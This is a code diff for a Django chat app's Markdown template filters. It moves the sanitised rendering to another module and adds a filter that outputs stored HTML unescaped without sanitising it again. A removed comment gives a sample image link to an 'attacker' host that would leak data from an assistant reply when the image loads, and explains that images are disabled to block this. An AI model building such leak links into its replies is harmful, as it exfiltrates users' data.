@@ -1,70 +1,26 @@
-"""The ``markdown`` template filter: assistant text rendered as Markdown, safely.
-
-Two well-kept libraries, no regexes: markdown-it-py parses (CommonMark, raw HTML off, so
-``<script>`` stays text), then nh3 sanitises what comes out (an allow-list, so nothing
-else can slip through a parser bug). The browser renders live text with the JS
-``markdown-it`` and ``DOMPurify`` configured the same way (static/chat/markdown.js):
-keep the two in step, tests/browser/test_markdown.py compares them.
-"""
+"""Template filters for Markdown text (the rendering lives in ``chat.markdown``)."""
 
 from __future__ import annotations
 
-import re
-from functools import cache
+from typing import Any
 
-import nh3
 from django import template
 from django.utils.safestring import SafeString, mark_safe
-from markdown_it import MarkdownIt
+
+from chatproject.chat.markdown import render_markdown
 
 register = template.Library()
-
-ALLOWED_TAGS = {
-    *("p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "a"),
-    *("ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6"),
-}
-ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}}
-URL_SCHEMES = {"http", "https", "mailto"}
-LINK_REL = "noopener noreferrer nofollow"
-# Only a fence's language class survives: nothing else may borrow the page's styles.
-CODE_CLASS = re.compile(r"language-[\w+#.-]+")
-
-
-def _keep_attribute(tag: str, attribute: str, value: str) -> str | None:
-    if tag == "code" and attribute == "class":
-        return value if CODE_CLASS.fullmatch(value) else None
-    return value
-
-
-@cache
-def _parser() -> MarkdownIt:
-    # The commonmark preset turns raw HTML on: switch it off; linkify stays off.
-    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
-    # No images: a reply could embed ![](https://attacker/?data=…) and leak by loading it.
-    # Disabled, the syntax renders as a plain link the reader may choose to follow.
-    md.disable("image")
-    return md
-
-
-@cache
-def _cleaner() -> nh3.Cleaner:
-    return nh3.Cleaner(
-        tags=ALLOWED_TAGS,
-        attributes=ALLOWED_ATTRIBUTES,
-        attribute_filter=_keep_attribute,
-        url_schemes=URL_SCHEMES,
-        link_rel=LINK_REL,
-        set_tag_attribute_values={"a": {"target": "_blank"}},
-        strip_comments=True,
-    )
-
-
-def render_markdown(text: str) -> str:
-    """Markdown source to sanitised HTML, the same as the browser's ``renderMarkdown``."""
-    return _cleaner().clean(_parser().render(text or ""))
 
 
 @register.filter(name="markdown")
 def markdown_filter(text: str) -> SafeString:
-    """``{{ message.text|markdown }}``: safe to output unescaped (it is sanitised)."""
-    return mark_safe(render_markdown(str(text)))  # sanitised by nh3 above
+    """``{{ text|markdown }}``: safe to output unescaped (it is sanitised)."""
+    return mark_safe(render_markdown(str(text)))  # sanitised by nh3
+
+
+@register.filter(name="message_html")
+def message_html(message: dict[str, Any]) -> SafeString:
+    """``{{ message|message_html }}``: the HTML stored when the answer ended, else the
+    text rendered now (an answer still streaming, or HTML of an older renderer)."""
+    html = message.get("html")
+    return mark_safe(html if html is not None else render_markdown(message["text"]))
